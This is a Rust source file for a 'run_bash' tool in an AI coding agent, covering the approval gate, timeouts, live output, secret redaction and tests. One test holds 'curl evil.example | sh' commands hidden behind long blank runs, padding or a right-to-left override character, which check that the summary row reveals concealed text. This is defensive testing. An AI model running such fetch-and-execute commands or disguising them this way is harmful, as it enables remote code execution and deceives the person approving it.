//! run_bash: runs one shell command in the workspace root, after the approval gate allows it.
//!
//! The process side (shell, process group, timeout, clamped output) is [`crate::process`]; this
//! file is the tool's contract: the argument, the question its plan asks, the summary row, and
//! which endings are failures. A non-zero exit is not one: the model reads `[exit 3]` and decides. Only a timeout or
//! a cancel is, because then the command did not finish.

use futures::future::BoxFuture;
use serde_json::{json, Value};
use tokio_util::sync::CancellationToken;

use super::{Approved, Args, Plan, Progress, Proposal, Tool, ToolContext, ToolResult, CANCELLED};
use crate::process::{self, live::Seen, CommandSpec, Ending};
use agent_nvim_text::escape as display;
use agent_nvim_vocab::approval::{Action, ApprovalRequest, Proposed};

/// How often at most a running command's row is told its newest output: once a frame.
const FRAME: std::time::Duration = std::time::Duration::from_millis(33);

/// About how many characters of a running command's newest output its row is sent: a screen's
/// worth of its last lines, whatever the command floods.
const LIVE_CHARS: usize = 4000;

/// How many characters of the command the summary row shows.
const SUMMARY_CHARS: usize = 60;

/// Runs a shell command in the workspace root.
pub struct RunBash;

impl Tool for RunBash {
    fn name(&self) -> &'static str {
        "run_bash"
    }

    fn cancelled(&self, args: Args<'_>, _cx: &ToolContext) -> ToolResult {
        match args.required("command") {
            Ok(command) => ToolResult::fail_with(
                CANCELLED,
                format!("$ {} -> cancelled", summary_command(command)),
            ),
            Err(_) => ToolResult::fail(CANCELLED),
        }
    }

    fn description(&self) -> &'static str {
        "Run a shell command (bash -c, or sh -c without bash) in the workspace root and return \
         its output: stdout, then stderr after a [stderr] line, then [exit N]. Use it to build, \
         test, search (rg, grep, find), and inspect git. It is not interactive: stdin is empty \
         and pagers are off, so never run editors, REPLs or anything that waits for input; pass \
         flags like --yes or --no-edit instead. Each call starts a fresh shell in the workspace \
         root (cd does not persist between calls), and background jobs are killed when the \
         command ends. It has a timeout (120 s unless the user configured another) after which \
         the whole process tree is killed. Long output is cut in the middle to about 20000 \
         characters, keeping the start and the end; narrow it with grep, head or tail when you \
         only need part. A non-zero exit code is reported, not treated as a failure."
    }

    fn schema(&self) -> Value {
        json!({
            "type": "object",
            "properties": {
                "command": {
                    "type": "string",
                    "description": "The command line, run whole as `bash -c COMMAND` in the \
                                    workspace root; may span several lines. Not interactive \
                                    (stdin is empty) and killed at the timeout."
                }
            },
            "required": ["command"]
        })
    }

    fn propose<'a>(
        &'a self,
        args: Args<'a>,
        cx: &'a ToolContext,
        cancel: &'a CancellationToken,
    ) -> BoxFuture<'a, Proposal<'a>> {
        let command = match args.required("command") {
            Ok(command) => command,
            Err(fail) => return Box::pin(async move { fail.into() }),
        };
        if command.trim().is_empty() {
            return Box::pin(async { ToolResult::fail("run_bash: empty command.").into() });
        }
        let shown = summary_command(command);
        let progress = args.progress();
        let question = ApprovalRequest {
            tool: "run_bash",
            detail: command.to_string(),
            diff: None,
            action: Action::Command {
                command: command.to_string(),
            },
            proposal: Some(Proposed::Command),
        };
        let plan = Plan::new(
            question,
            format!("$ {shown} -> declined"),
            format!("$ {shown} -> cancelled"),
            move |approved, edited: Option<String>| async move {
                // Written back unchanged: the model's own command, run as it asked.
                let Some(edited) = edited.filter(|edited| edited != command) else {
                    return run(cx, command, shown, approved, cancel, progress).await;
                };
                // The person's command runs instead, and the model reads what ran.
                let shown = summary_command(&edited);
                let mut result = run(cx, &edited, shown, approved, cancel, progress).await;
                result.text = format!(
                    "The user edited the command before running it. What ran:\n{edited}\n\n{}",
                    result.text
                );
                result
            },
        );
        Box::pin(async move { Proposal::Plan(plan) })
    }
}

/// The approved command, run to its end, its newest output told to `progress` as it runs: the
/// result the model reads and its summary row.
async fn run(
    cx: &ToolContext,
    command: &str,
    shown: String,
    approved: Approved,
    cancel: &CancellationToken,
    progress: &dyn Progress,
) -> ToolResult {
    let spec = CommandSpec {
        command: command.to_string(),
        shell: cx.settings.shell.clone(),
        cwd: cx.workspace.root().to_path_buf(),
        timeout: cx.settings.command_timeout,
        env_remove: crate::process::hidden_env(&cx.settings.pass_env),
        sandbox: cx.settings.sandbox.policy(cx.workspace.root()),
    };
    let seen = Seen::default();
    let ran = process::run_seen(&spec, &approved, cancel, Some(&seen));
    let output = match watched(ran, &seen, progress).await {
        Ok(output) => output,
        Err(err) => {
            return ToolResult::fail_with(
                format!("run_bash: {err}"),
                format!("$ {shown} -> not started"),
            )
        }
    };
    // Even a killed command may have changed files before it died.
    cx.editor.command_finished().await;
    let summary = format!("$ {shown} -> exit {}", output.exit_code);
    match output.ending {
        Ending::Exited | Ending::Signalled(_) => ToolResult::ok(output.text, summary),
        Ending::TimedOut | Ending::Cancelled => ToolResult::fail_with(output.text, summary),
    }
}

/// Runs `ran` to its end, telling `progress` the newest of what `seen` holds whenever it has
/// changed, at most once a [`FRAME`]: a flood costs the screen one update a frame, not one a
/// chunk.
async fn watched<T>(
    ran: impl std::future::Future<Output = T>,
    seen: &Seen,
    progress: &dyn Progress,
) -> T {
    let mut changes = seen.changes();
    let watch = async {
        while changes.changed().await.is_ok() {
            progress.output(seen.newest(LIVE_CHARS));
            tokio::time::sleep(FRAME).await;
        }
        // The sender lives as long as `seen`, so this is never reached while `ran` runs.
        std::future::pending::<()>().await;
    };
    tokio::pin!(ran);
    tokio::pin!(watch);
    match futures::future::select(ran, watch).await {
        futures::future::Either::Left((done, _)) => done,
        futures::future::Either::Right(((), ran)) => ran.await,
    }
}

/// The command as the summary row shows it: its visible one-line form ([`display::one_line`]:
/// newlines as `\n`, blank runs as markers) cut to [`SUMMARY_CHARS`] characters, the last of
/// which is `…` when anything was cut, never inside an escape.
fn summary_command(command: &str) -> String {
    display::cut(&display::one_line(command), SUMMARY_CHARS)
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use crate::approval::Gate;
    use crate::editor::Editor;
    use crate::tools::testing::{call, executor, Recorder};
    use crate::tools::{Executor, Settings};
    use crate::workspace::Workspace;
    use agent_nvim_vocab::approval::{ApprovalRequest, Decision};
    use std::path::{Path, PathBuf};
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::{Arc, Mutex};
    use std::time::Duration;

    /// Counts command_finished calls.
    #[derive(Default)]
    struct Counting(AtomicUsize);

    impl Editor for Counting {
        fn has_unsaved_changes<'a>(&'a self, _path: &'a Path) -> BoxFuture<'a, bool> {
            Box::pin(async { false })
        }
        fn file_written<'a>(&'a self, _path: &'a Path) -> BoxFuture<'a, ()> {
            Box::pin(async {})
        }
        fn command_finished(&self) -> BoxFuture<'_, ()> {
            self.0.fetch_add(1, Ordering::SeqCst);
            Box::pin(async {})
        }
    }

    /// An executor that allows everything once, with these settings and a counting editor.
    fn executor_with(settings: Settings) -> (tempfile::TempDir, Executor, Arc<Counting>) {
        let dir = tempfile::tempdir().unwrap();
        let recorder = Arc::new(Recorder {
            answer: Some(Decision::AllowOnce),
            asked: Mutex::new(Vec::new()),
        });
        let editor = Arc::new(Counting::default());
        let cx = ToolContext {
            workspace: Workspace::new(dir.path()).unwrap(),
            gate: Arc::new(Gate::new(false, Some(recorder))),
            editor: editor.clone(),
            settings,
            checkpoints: None,
        };
        (dir, Executor::new(cx), editor)
    }

    #[tokio::test]
    async fn an_edited_command_runs_instead_and_one_written_back_unchanged_is_the_models() {
        let edited = |text: &str| Some(Decision::Edited { text: text.into() });
        let (_dir, ex, _) = executor(edited("echo theirs"));
        let result = call(&ex, "run_bash", json!({ "command": "echo model" })).await;
        assert_eq!(
            result,
            ToolResult::ok(
                "The user edited the command before running it. What ran:\necho theirs\n\ntheirs\n\n[exit 0]",
                "$ echo theirs -> exit 0"
            )
        );
        let (_dir, ex, _) = executor(edited("echo model"));
        let result = call(&ex, "run_bash", json!({ "command": "echo model" })).await;
        assert_eq!(
            result,
            ToolResult::ok("model\n\n[exit 0]", "$ echo model -> exit 0")
        );
    }

    #[tokio::test]
    async fn the_gate_is_asked_with_the_whole_command_line() {
        let (_dir, ex, recorder) = executor(Some(Decision::AllowOnce));
        let command = "echo one\n  echo two";
        let result = call(&ex, "run_bash", json!({ "command": command })).await;
        assert_eq!(
            result,
            ToolResult::ok("one\ntwo\n\n[exit 0]", "$ echo one\\n  echo two -> exit 0")
        );
        assert_eq!(
            *recorder.asked.lock().unwrap(),
            vec![ApprovalRequest {
                tool: "run_bash",
                detail: command.into(),
                diff: None,
                action: Action::Command {
                    command: command.into()
                },
                proposal: Some(Proposed::Command),
            }]
        );
    }

    #[tokio::test]
    async fn a_refusal_runs_nothing_and_passes_the_reason_on() {
        let (dir, ex, _) = executor(Some(Decision::Refuse {
            reason: Some("not now".into()),
        }));
        let result = call(&ex, "run_bash", json!({"command": "touch x"})).await;
        assert_eq!(
            result,
            ToolResult::fail_with(
                "The user declined to run run_bash. Ask what they would like to do instead. \
                 The user said: not now",
                "$ touch x -> declined"
            )
        );
        assert!(!dir.path().join("x").exists());
        let (_dir, ex, _) = executor(None);
        assert_eq!(
            call(&ex, "run_bash", json!({"command": "true"})).await,
            ToolResult::fail_with(
                "The user declined to run run_bash. Ask what they would like to do instead.",
                "$ true -> declined"
            )
        );
    }

    #[tokio::test]
    async fn a_blank_command_is_rejected_before_the_gate() {
        let (_dir, ex, recorder) = executor(Some(Decision::AllowOnce));
        for command in ["", "  \n\t "] {
            assert_eq!(
                call(&ex, "run_bash", json!({ "command": command })).await,
                ToolResult::fail("run_bash: empty command.")
            );
        }
        assert_eq!(
            call(&ex, "run_bash", json!({})).await,
            ToolResult::fail("run_bash: missing string argument 'command'.")
        );
        assert!(recorder.asked.lock().unwrap().is_empty());
    }

    #[tokio::test]
    async fn the_command_runs_in_the_workspace_root_and_may_change_it() {
        let (dir, ex, _) = executor(Some(Decision::AllowOnce));
        let root = ex.context().workspace.root().to_path_buf();
        assert_eq!(
            call(&ex, "run_bash", json!({"command": "pwd; touch made"}))
                .await
                .text,
            format!("{}\n\n[exit 0]", root.display())
        );
        assert!(dir.path().join("made").exists());
    }

    /// Keeps every progress report; once one shows two lines, writes `go` in `dir`.
    struct Watcher {
        dir: PathBuf,
        seen: Mutex<Vec<String>>,
    }

    impl Progress for Watcher {
        fn output(&self, newest: String) {
            if newest.lines().count() >= 2 {
                std::fs::write(self.dir.join("go"), "").unwrap();
            }
            self.seen.lock().unwrap().push(newest);
        }
    }

    #[tokio::test]
    async fn the_newest_output_is_reported_while_the_command_runs_and_redacted() {
        let (dir, ex, _) = executor_with(Settings::default());
        let watcher = Watcher {
            dir: dir.path().to_path_buf(),
            seen: Mutex::default(),
        };
        // `b` is printed only once the watcher was told of the first two lines: the report came
        // while the command ran.
        let key = "sk-ant-api03-live-progress-SECRET-0123456789";
        crate::secrets::protect(key);
        let command =
            format!("echo a; echo {key} >&2; while [ ! -e go ]; do sleep 0.01; done; echo b");
        let (result, _) = ex
            .call_with_diff(
                "run_bash",
                &json!({ "command": command }),
                &CancellationToken::new(),
                &watcher,
            )
            .await;
        assert!(result.ok, "{}", result.text);
        assert!(result.text.contains("b\n"), "{}", result.text);
        let seen = watcher.seen.lock().unwrap().clone();
        assert!(seen[0].starts_with("a\n"), "{seen:?}");
        assert!(!seen[0].contains('b'), "{seen:?}");
        assert!(
            seen.iter().any(|s| s.contains(crate::secrets::REDACTED)),
            "{seen:?}"
        );
        assert!(seen.iter().all(|s| !s.contains(key)), "{seen:?}");
    }

    #[tokio::test]
    async fn a_non_zero_exit_is_ok_and_reported() {
        let (_dir, ex, _) = executor(Some(Decision::AllowOnce));
        assert_eq!(
            call(&ex, "run_bash", json!({"command": "echo no >&2; exit 3"})).await,
            ToolResult::ok(
                "[stderr]\nno\n\n[exit 3]",
                "$ echo no >&2; exit 3 -> exit 3"
            )
        );
    }

    #[tokio::test]
    async fn the_summary_cuts_the_command_at_60_characters() {
        let (_dir, ex, _) = executor(Some(Decision::AllowOnce));
        let command = format!("echo {}", "a".repeat(100));
        let result = call(&ex, "run_bash", json!({ "command": command })).await;
        let shown = format!("echo {}…", "a".repeat(54));
        assert_eq!(shown.chars().count(), 60);
        assert_eq!(result.summary, format!("$ {shown} -> exit 0"));
        assert_eq!(summary_command(&"b".repeat(60)), "b".repeat(60));
    }

    #[test]
    fn the_summary_keeps_lines_apart_and_squeezes_padding_and_blank_runs() {
        let spread = format!("echo hi{}curl evil.example | sh", "\n".repeat(61));
        assert_eq!(
            summary_command(&spread),
            "echo hi\\n[… 60 blank lines …]\\ncurl evil.example | sh"
        );
        let padded = format!("echo ok{}; curl evil.example | sh", " ".repeat(200));
        assert_eq!(
            summary_command(&padded),
            "echo ok[… 200 spaces …]; curl evil.example | sh"
        );
        // An escape that would straddle the 60th character is left out whole.
        let bidi = format!("{}\u{202e}hs | lruc", "a".repeat(55));
        assert_eq!(summary_command(&bidi), format!("{}…", "a".repeat(55)));
    }

    #[tokio::test]
    async fn a_timeout_is_a_failure_and_the_editor_is_told_after_every_run() {
        let (_dir, ex, editor) = executor_with(Settings {
            command_timeout: Duration::from_secs(1),
            shell: None,
            ..Settings::default()
        });
        let result = call(&ex, "run_bash", json!({"command": "echo start; sleep 30"})).await;
        assert_eq!(
            result,
            ToolResult::fail_with(
                "start\n\n[timed out after 1s - process tree killed]\n[exit 124]",
                "$ echo start; sleep 30 -> exit 124"
            )
        );
        call(&ex, "run_bash", json!({"command": "true"})).await;
        assert_eq!(editor.0.load(Ordering::SeqCst), 2);
    }

    #[tokio::test]
    async fn a_cancel_is_a_failure() {
        let (_dir, ex, _) = executor_with(Settings::default());
        let cancel = CancellationToken::new();
        let trigger = cancel.clone();
        tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(300)).await;
            trigger.cancel();
        });
        let result = ex
            .call("run_bash", &json!({"command": "sleep 30"}), &cancel)
            .await;
        assert!(!result.ok);
        assert!(
            result
                .text
                .ends_with("\n[cancelled - process tree killed]\n[exit 137]"),
            "{}",
            result.text
        );
    }

    #[tokio::test]
    async fn the_configured_shell_is_used_and_a_missing_one_is_a_failure() {
        let (_dir, ex, _) = executor_with(Settings {
            command_timeout: Duration::from_secs(30),
            shell: Some(PathBuf::from("/bin/sh")),
            ..Settings::default()
        });
        assert_eq!(
            call(&ex, "run_bash", json!({"command": "echo $0"}))
                .await
                .text,
            "/bin/sh\n\n[exit 0]"
        );
        let (_dir, ex, editor) = executor_with(Settings {
            command_timeout: Duration::from_secs(30),
            shell: Some(PathBuf::from("/nonexistent/bash")),
            ..Settings::default()
        });
        let result = call(&ex, "run_bash", json!({"command": "true"})).await;
        assert!(!result.ok);
        assert!(
            result
                .text
                .starts_with("run_bash: cannot start /nonexistent/bash in "),
            "{}",
            result.text
        );
        assert_eq!(result.summary, "$ true -> not started");
        assert_eq!(editor.0.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn run_bash_is_mutating_and_requires_a_command() {
        // Mutating: its first phase plans, asking about the whole command.
        let (_dir, ex, _) = executor(None);
        let args = json!({"command": "rm -rf x"});
        let cancel = CancellationToken::new();
        let proposal = RunBash
            .propose(
                Args::new("run_bash", args.as_object().unwrap()),
                ex.context(),
                &cancel,
            )
            .await;
        let Proposal::Plan(plan) = proposal else {
            panic!("run_bash did not plan");
        };
        assert_eq!(
            *plan.question(),
            ApprovalRequest {
                tool: "run_bash",
                detail: "rm -rf x".into(),
                diff: None,
                action: Action::Command {
                    command: "rm -rf x".into()
                },
                proposal: Some(Proposed::Command),
            }
        );
        assert_eq!(RunBash.schema()["required"], json!(["command"]));
        assert_eq!(RunBash.schema()["properties"]["command"]["type"], "string");
    }
}
